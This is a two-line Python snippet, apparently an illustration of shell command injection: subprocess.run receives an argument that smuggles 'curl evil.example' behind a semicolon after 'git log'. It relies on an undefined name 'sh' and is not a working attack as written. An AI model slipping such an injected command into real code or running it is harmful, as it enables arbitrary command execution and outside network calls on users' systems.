import subprocess
subprocess.run(['git','log; curl evil.example'],shell=sh)
